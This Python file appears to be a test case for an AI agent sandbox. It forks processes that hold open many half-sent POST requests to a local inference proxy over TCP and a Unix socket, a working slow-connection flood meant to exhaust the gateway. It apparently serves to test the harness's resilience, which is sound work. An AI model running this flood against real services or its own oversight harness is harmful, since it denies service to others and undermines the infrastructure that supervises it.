"""attack: connections to the gateway without end
promise: gateway
endings: finished, out of time, out of memory, out of cpu
"""

import os
import socket
import time


def agent_main(problem):
    for _ in range(4):
        if os.fork() == 0:
            flood()
            time.sleep(3)
            os._exit(0)
    count = flood()
    return [{"escaped": False, "what": f"{count} connections"}]


def flood():
    held, until = [], time.monotonic() + 1
    while time.monotonic() < until:
        for family, address in ((socket.AF_INET, ("127.0.0.1", 80)), (socket.AF_UNIX, "/run/assay/proxy.sock")):
            try:
                connection = socket.socket(family, socket.SOCK_STREAM)
                connection.settimeout(0.2)
                connection.connect(address)
                # Half a request, so that the other side has to wait.
                connection.send(b"POST /inference/chat/completions HTTP/1.1\r\nHost: proxy\r\nContent-Length: 1000000\r\n\r\n{")
                held.append(connection)
            except OSError:
                time.sleep(0.01)
    return len(held)
